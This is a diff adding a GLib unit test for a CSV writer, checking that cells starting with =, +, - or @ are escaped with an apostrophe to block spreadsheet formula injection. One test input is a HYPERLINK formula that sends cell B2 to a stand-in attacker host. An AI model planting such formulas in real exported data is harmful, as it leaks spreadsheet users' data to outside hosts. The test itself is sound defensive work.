@@ -93,6 +93,19 @@ test_written_is_read (void)
   g_assert_true (g_strv_equal ((const char *const *) found, cells));
 }
 
+/* What a spreadsheet would reckon with is text in it. */
+static void
+test_formulas_are_text (void)
+{
+  static const char *const cells[] = {
+      "=HYPERLINK(\"http://evil.example/\"&B2)", "+1", "-1", "@SUM(A1)", "1=1", NULL};
+  g_autoptr (GString) text = g_string_new (NULL);
+
+  duo_csv_write (text, cells);
+  g_assert_cmpstr (text->str, ==,
+                   "\"'=HYPERLINK(\"\"http://evil.example/\"\"&B2)\",\"'+1\",\"'-1\",\"'@SUM(A1)\",1=1\r\n");
+}
+
 int
 main (int argc, char **argv)
 {
@@ -100,6 +113,7 @@ main (int argc, char **argv)
   g_test_add_func ("/csv/records", test_records);
   g_test_add_func ("/csv/two-bytes-a-letter", test_two_bytes_a_letter);
   g_test_add_func ("/csv/written-is-read", test_written_is_read);
+  g_test_add_func ("/csv/formulas-are-text", test_formulas_are_text);
 
   return g_test_run ();
 }
